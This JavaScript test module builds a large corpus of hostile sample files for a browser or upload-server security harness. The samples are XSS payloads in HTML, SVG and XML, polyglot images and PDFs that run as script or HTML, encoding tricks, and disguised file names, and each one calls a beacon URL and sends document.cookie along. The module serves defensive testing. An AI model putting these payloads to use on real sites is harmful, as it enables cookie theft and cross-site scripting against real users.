// Files that do something when a browser runs or renders them: each calls the beacon in its own way.
// To add one: a line in the list of its kind. `calls` says that the plain server of the control group must see it call; leave it out for
// what Chromium runs nowhere (other browsers and programs do).

import { gzipSync } from "node:zlib";

const utf8 = (text) => Buffer.from(text, "utf8");
const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === "string" ? utf8(part) : Buffer.from(part))));

/** JavaScript that calls the beacon, with the cookies it sees. */
const script = (b) =>
  `fetch('${b}/fetch?'+(()=>{try{return document.cookie}catch(e){return ''}})(),{mode:'no-cors',credentials:'include'});try{document.title='ran'}catch(e){}`;
const html = (body) => `<!DOCTYPE html><html><head><title>t</title></head><body>${body}</body></html>`;
const run = (b) => `<script>${script(b)}</script>`;
const svg = (inside, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${inside}</svg>`;

const HTML = {
  "script": (b) => html(run(b)),
  "dialog": (b) => html(`<script>alert(1);${script(b)}</script>`),
  "body-onload": (b) => `<html><body onload="${script(b)}">`,
  "img-onerror-in-html": (b) => html(`<img src=data:, onerror="${script(b)}">`),
  "bare-img-onerror": (b) => `<img src=data:, onerror="${script(b)}">`,
  "unknown-element": (b) => `<x-y tabindex=1 autofocus onfocus="${script(b)}">x</x-y>`,
  "details-ontoggle": (b) => `<details open ontoggle="${script(b)}">x</details>`,
  "autofocus": (b) => html(`<input autofocus onfocus="${script(b)}">`),
  "cookie": (b) => html(`<script>document.cookie='evil=1';new Image().src='${b}/cookie?'+document.cookie</script>`),
  "storage": (b) => html(`<script>localStorage.x=1;new Image().src='${b}/storage?'+localStorage.length</script>`),
  "image": (b) => html(`<img src=${b}/img>`),
  "form-submit": (b) => html(`<form id=f method=post action=${b}/form><input name=a></form><script>f.submit()</script>`),
  "meta-refresh": (b) => html(`<meta http-equiv=refresh content="0;url=${b}/refresh">`),
  "meta-refresh-first": (b) => `<meta http-equiv=refresh content="0;url=${b}/refresh">`,
  "location": (b) => html(`<script>location='${b}/location'</script>`),
  "top-location": (b) => html(`<script>top.location='${b}/top'</script>`),
  "link-prefetch": (b) => html(`<link rel=prefetch href=${b}/prefetch><link rel=preload as=image href=${b}/preload>`),
  "link-stylesheet": (b) => html(`<link rel=stylesheet href=${b}/css>`),
  "link-icon-and-manifest": (b) => html(`<link rel=icon href=${b}/icon><link rel=manifest href=${b}/manifest>`),
  "iframe": (b) => html(`<iframe src=${b}/iframe></iframe>`),
  "iframe-first": (b) => `<iframe src=${b}/iframe></iframe>`,
  "iframe-srcdoc": (b) => html(`<iframe srcdoc="&lt;img src=${b}/srcdoc&gt;"></iframe>`),
  "iframe-javascript": (b) => html(`<iframe src="javascript:${script(b)}"></iframe>`),
  "style-import": (b) => html(`<style>@import url(${b}/import);</style>`),
  "style-background": (b) => html(`<div style="background:url(${b}/background)">x</div>`),
  "font-face": (b) => html(`<style>@font-face{font-family:f;src:url(${b}/font)}p{font-family:f}</style><p>x</p>`),
  "media": (b) => html(`<video src=${b}/video poster=${b}/poster></video><audio src=${b}/audio></audio>`),
  "object-embed": (b) => html(`<object data=${b}/object></object><embed src=${b}/embed>`),
  "script-src": (b) => html(`<script src=${b}/script></script>`),
  "script-module": (b) => html(`<script type=module>import '${b}/module'</script>`),
  "base-href": (b) => html(`<base href=${b}/><img src=based>`),
  "picture-srcset": (b) => html(`<img srcset="${b}/srcset 1x">`),
  "body-background": (b) => `<body background=${b}/background>`,
  "svg-in-html": (b) => html(`<svg onload="${script(b)}"><image href=${b}/image /></svg>`),
  "beacon": (b) => html(`<script>navigator.sendBeacon('${b}/beacon','x')</script>`),
  "websocket": (b) => html(`<script>new WebSocket('${b.replace("http", "ws")}/ws')</script>`),
  "event-source": (b) => html(`<script>new EventSource('${b}/events')</script>`),
  "blob-worker": (b) => html(`<script>new Worker(URL.createObjectURL(new Blob(["fetch('${b}/worker',{mode:'no-cors'})"])))</script>`),
  "post-message": (b) => html(`<script>(opener||parent).postMessage('${b}/message','*')</script>`),
  "open-window": (b) => html(`<script>open('${b}/window')</script>`),
};

/** HTML in disguise. */
const HIDDEN = {
  "behind-bom": (b) => bytes([0xef, 0xbb, 0xbf], html(run(b))),
  "behind-1000-blanks": (b) => bytes(" \n\t\f\r".repeat(200), html(run(b))),
  "behind-6000-blanks": (b) => bytes(" ".repeat(6000), html(run(b))),
  "behind-comment": (b) => bytes("<!-- a --> <!-- b -->", html(run(b))),
  "behind-6000-of-comment": (b) => bytes(`<!--${"x".repeat(6000)}-->`, html(run(b))),
  "behind-text": (b) => bytes("Dear reader,\n", html(run(b))),
  "behind-6000-of-text": (b) => bytes("lorem ipsum ".repeat(500), html(run(b))),
  "behind-php": (b) => bytes("<?php echo 1 ?>", html(run(b))),
  "behind-control": (b) => bytes([0x01, 0x02, 0x0b], html(run(b))),
  "behind-nul": (b) => bytes([0, 0, 0, 0], html(run(b))),
  "utf16le-bom": (b) => bytes([0xff, 0xfe], Buffer.from(html(run(b)), "utf16le")),
  "utf16be-bom": (b) => bytes([0xfe, 0xff], Buffer.from(html(run(b)), "utf16le").swap16()),
  "utf16le-bare": (b) => Buffer.from(html(run(b)), "utf16le"),
  "utf7": (b) => bytes(`<meta charset=utf-7>+ADw-script+AD4-${script(b)}+ADw-/script+AD4-`),
  "iso-2022-jp": (b) => bytes("\x1b(J", html(run(b))),
  "upper-case": (b) => bytes(`<HTML><ScRiPt>${script(b)}</sCrIpT>`),
  "latin1": (b) => bytes([0xe9, 0x0a], html(run(b))),
};

const SVG = {
  "onload": (b) => svg("", `onload="${script(b)}"`),
  "script": (b) => svg(`<script>${script(b)}</script>`),
  "script-href": (b) => svg(`<script href="${b}/script"/>`),
  "foreign-object": (b) => svg(`<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${b}/iframe"/></foreignObject>`),
  "image": (b) => svg(`<image href="${b}/image" width="9" height="9"/>`),
  "fe-image": (b) => svg(`<filter id="f"><feImage href="${b}/feimage"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
  "use": (b) => svg(`<use href="${b}/use#x"/>`),
  "style": (b) => svg(`<style>@import url(${b}/import);rect{fill:url(${b}/fill#x)}</style><rect width="9" height="9"/>`),
  "animate": (b) => svg(`<animate onbegin="${script(b)}" attributeName="x" dur="1s"/>`),
  "set-href": (b) => svg(`<image width="9" height="9"><set attributeName="href" to="${b}/set"/></image>`),
  "prolog": (b) => `<?xml version="1.0"?><!-- c -->${svg(`<script>${script(b)}</script>`)}`,
  "doctype-entity": (b) => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "${b}/image">]>${svg('<image href="&s;" width="9" height="9"/>')}`,
  "no-prolog-doctype": (b) => `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">${svg(`<script>${script(b)}</script>`)}`,
  "prefixed": (b) => `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${script(b)}</s:script></s:svg>`,
  "utf16": (b) => bytes([0xff, 0xfe], Buffer.from(`<?xml version="1.0" encoding="utf-16"?>${svg(`<script>${script(b)}</script>`)}`, "utf16le")),
  "behind-6000-of-comment": (b) => `<?xml version="1.0"?><!--${"x".repeat(6000)}-->${svg(`<script>${script(b)}</script>`)}`,
};

const xslt = (b) => `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><html><body><script>${script(b)}</script></body></html></xsl:template></xsl:stylesheet>`;

const XML = {
  "xhtml": (b) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script(b)}</script></html>`,
  "xhtml-without-prolog": (b) => `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script(b)}</script></head></html>`,
  "script-in-xml": (b) => `<?xml version="1.0"?><a><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script(b)}</x:script></a>`,
  "script-in-rss": (b) => `<rss version="2.0"><channel><title><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script(b)}</x:script></title></channel></rss>`,
  "css-instruction": (b) => `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${b}/css"?><a>x</a>`,
  "xslt-embedded": (b) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #IMPLIED>]><a>${xslt(b)}</a>`,
  "mathml": (b) => `<math xmlns="http://www.w3.org/1998/Math/MathML"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script(b)}</x:script></math>`,
};

/** Code that a page of another origin includes. */
const CODE = {
  "plain.js": (b) => script(b),
  "module.mjs": (b) => `export default 1;${script(b)}`,
  "service-worker.js": (b) => `self.addEventListener('install',()=>fetch('${b}/sw',{mode:'no-cors'}));fetch('${b}/fetch',{mode:'no-cors'})`,
  "jsonp.js": (b) => `(x=>x)({});${script(b)}`,
  "script.txt": (b) => script(b),
  "script.png": (b) => script(b),
  "script.json": (b) => script(b),
  "shebang.js": (b) => `#!/usr/bin/env node\n${script(b)}`,
  "strict.js": (b) => `"use strict";\n/* a comment */\n${script(b)}`,
  "as-typescript.ts": (b) => script(b),
  "as-css.css": (b) => `/**/${script(b)}`,
};

const CSS = {
  "import.css": (b) => `@import url(${b}/import);`,
  "background.css": (b) => `body{background:url(${b}/background)}`,
  "named.txt": (b) => `html{background:url(${b}/background)}`,
};

const gif = (b) => bytes("GIF89a/*", new Uint8Array(20), `*/=1;${script(b)}`);
const jpegWith = (comment) => {
  const length = comment.length + 2;
  return bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], "JFIF\0", [1, 1, 0, 0, 1, 0, 1, 0, 0], [0xff, 0xfe, length >> 8, length & 255], comment, [0xff, 0xd9]);
};
const ihdr = [0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89];
const png = (text) => bytes([0x89], "PNG\r\n\x1a\n", ihdr, [0, 0, text.length >> 8, text.length & 255], "tEXt", text, [0, 0, 0, 0]);
const le32 = (n) => [n & 255, (n >> 8) & 255, (n >> 16) & 255, n >>> 24];
const tar = (name) => bytes(name, new Uint8Array(257 - name.length), "ustar\0" + "00", new Uint8Array(512 - 265), new Uint8Array(1024));

/** Two formats in one: the type a careless server would give, and the bytes. */
const POLYGLOTS = [
  ["gif-js.gif", "text/javascript", gif, true],
  ["bmp-js.bmp", "text/javascript", (b) => bytes("BM/*", new Uint8Array(50), `*/=1;${script(b)}`), true],
  ["wav-js.wav", "text/javascript", (b) => bytes("RIFF/*", [0, 0], "WAVEfmt ", new Uint8Array(20), `*/=1;${script(b)}`), true],
  ["pdf-js.pdf", "text/javascript", (b) => `/*%PDF-1.4\n*/${script(b)}`, true],
  ["jpeg-js.jpg", "text/javascript", (b) => bytes([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a], "JFIF\0", new Uint8Array(9), `*/=1;${script(b)}//`), true],
  ["csv-js.csv", "text/javascript", (b) => `a,b\n=1;${script(b)}`],
  ["gif-html.gif", "text/html", (b) => bytes("GIF89a", [1, 0, 1, 0, 0, 0, 0], html(run(b)), ";"), true],
  ["jpeg-comment-html.jpg", "text/html", (b) => jpegWith(html(run(b))), true],
  ["png-text-html.png", "text/html", (b) => png(`Comment\0${html(run(b))}`), true],
  ["webp-html.webp", "text/html", (b) => bytes("RIFF", le32(html(run(b)).length + 12), "WEBPVP8 ", le32(html(run(b)).length), html(run(b))), true],
  ["bmp-html.bmp", "text/html", (b) => bytes("BM", new Uint8Array(52), html(run(b))), true],
  ["ico-html.ico", "text/html", (b) => bytes([0, 0, 1, 0, 1, 0], html(run(b))), true],
  ["mp4-html.mp4", "text/html", (b) => bytes([0, 0, 0, 24], "ftypisom", [0, 0, 2, 0], "isommp41", html(run(b))), true],
  ["mp3-html.mp3", "text/html", (b) => bytes("ID3", [3, 0, 0, 0, 0, 2, 1], html(run(b))), true],
  ["pdf-html.pdf", "text/html", (b) => `%PDF-1.4\n${html(run(b))}\n%%EOF`, true],
  ["zip-html.zip", "text/html", (b) => bytes(html(run(b)), "PK\x05\x06", new Uint8Array(18)), true],
  ["zip-first.zip", "text/html", (b) => bytes("PK\x03\x04", new Uint8Array(26), html(run(b)), "PK\x05\x06", new Uint8Array(18)), true],
  ["gzip-html.gz", "text/html", (b) => bytes([0x1f, 0x8b, 8, 0x10, 0, 0, 0, 0, 0, 3], html(run(b)), [0]), true],
  ["tar-html.tar", "text/html", (b) => tar(run(b).slice(0, 99))],
  ["rtf-html.rtf", "text/html", (b) => `{\\rtf1 ${html(run(b))}}`, true],
];

const pdf = (action, more = "") => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R${more}>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 4 0 R>>/Resources<<>>>>endobj
4 0 obj<<${action}>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** What Chromium runs nowhere, or only as the document of a plug-in or of another program. */
const OTHERS = [
  ["javascript.pdf", "application/pdf", (b) => pdf(`/S/JavaScript/JS(app.launchURL\\("${b}/pdf"\\);this.submitForm\\("${b}/form"\\);app.alert\\(1\\);)`)],
  ["uri.pdf", "application/pdf", (b) => pdf(`/S/URI/URI(${b}/uri)`)],
  ["submit.pdf", "application/pdf", (b) => pdf(`/S/SubmitForm/F(${b}/submit)/Fields[]`)],
  ["goto-remote.pdf", "application/pdf", (b) => pdf(`/S/GoToR/F<</FS/URL/F(${b}/gotor)>>/D[0/Fit]`)],
  ["launch.pdf", "application/pdf", (b) => pdf(`/S/Launch/F(${b}/launch)`)],
  ["page.mhtml", "multipart/related; boundary=b", (b) => `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://a/\r\n\r\n${html(run(b))}\r\n--b--\r\n`],
  ["replaced.mjpg", "multipart/x-mixed-replace; boundary=b", (b) => `--b\r\nContent-Type: text/html\r\n\r\n${html(run(b))}\r\n--b--\r\n`],
  ["movie.swf", "application/x-shockwave-flash", (b) => bytes("FWS", [6], le32(99), new Uint8Array(20), `${b}/swf`)],
  ["app.hta", "application/hta", (b) => html(run(b))],
  ["link.url", "text/plain", (b) => `[InternetShortcut]\r\nURL=${b}/url\r\n`],
  ["code.wasm", "application/wasm", () => bytes([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])],
  ["list.m3u8", "application/vnd.apple.mpegurl", (b) => `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${b}/segment.ts\n#EXT-X-ENDLIST\n`, true],
  ["captions.vtt", "text/vtt", (b) => `WEBVTT\n\nSTYLE\n::cue{background:url(${b}/vtt)}\n\n00:00.000 --> 01:00.000\nx\n`],
  ["app.webmanifest", "application/manifest+json", (b) => `{"name":"x","icons":[{"src":"${b}/icon","sizes":"9x9"}]}`],
  ["data.json", "application/json", (b) => `{"html":"${b}"}`],
  ["packed.svgz", "image/svg+xml", (b) => gzipSync(svg(`<script>${script(b)}</script>`))],
];

const of = (kind, type, suffix, list, quiet = []) =>
  Object.entries(list).map(([name, make]) => ({
    name: suffix ? `${kind}-${name}${suffix}` : name,
    type,
    make,
    calls: !quiet.includes(name),
  }));

/** Every sample: `{name, type, bytes, calls}`, where `beacon(index)` is the address that a sample must never reach. */
export function samples(beacon) {
  const lists = [
    ...of("html", "text/html", ".html", HTML, ["link-icon-and-manifest"]),
    ...of("hidden", "text/html", ".html", HIDDEN, ["utf16le-bare", "utf7"]),
    ...of("svg", "image/svg+xml", ".svg", SVG, ["use"]),
    ...of("xml", "text/xml", ".xml", XML),
    ...of("code", "text/javascript", "", CODE),
    ...of("css", "text/css", "", CSS),
    ...[...POLYGLOTS, ...OTHERS].map(([name, type, make, calls = false]) => ({ name, type, make, calls })),
    // The same page under names and declared types that ask for trust.
    ...["photo.jpg", "photo.png", "notes.txt", "paper.pdf", "table.csv", "README.md", "no-extension", "x.html%00.png", "page.html;.txt",
      'a".html', "text/html", "x.png\r\nContent-Type: text/html\r\n\r\n.html", "x\u202Egnp.html"].map((name) => ({
      name, type: "text/html", make: HTML.script, calls: true, declared: "image/png" })),
    ...["drawing.png", "drawing.txt", "drawing.pdf"].map((name) => ({
      name, type: "image/svg+xml", make: SVG.script, calls: true, declared: "image/jpeg" })),
    ...["text/html", "text/html; charset=utf-7", "application/xhtml+xml", "image/svg+xml", "text/javascript", "text/xml",
      "multipart/x-mixed-replace; boundary=b", "application/x-shockwave-flash"].map((declared) => ({
      name: "hostile.png", type: "text/html", make: HIDDEN["behind-text"], calls: true, declared })),
    // A true picture that is declared as a page.
    { name: "true.gif", type: "text/html", make: POLYGLOTS[6][2], calls: true, declared: "text/html" },
  ];
  return lists.map(({ make, ...rest }, index) => ({ ...rest, bytes: bytes(make(beacon(index))) }));
}
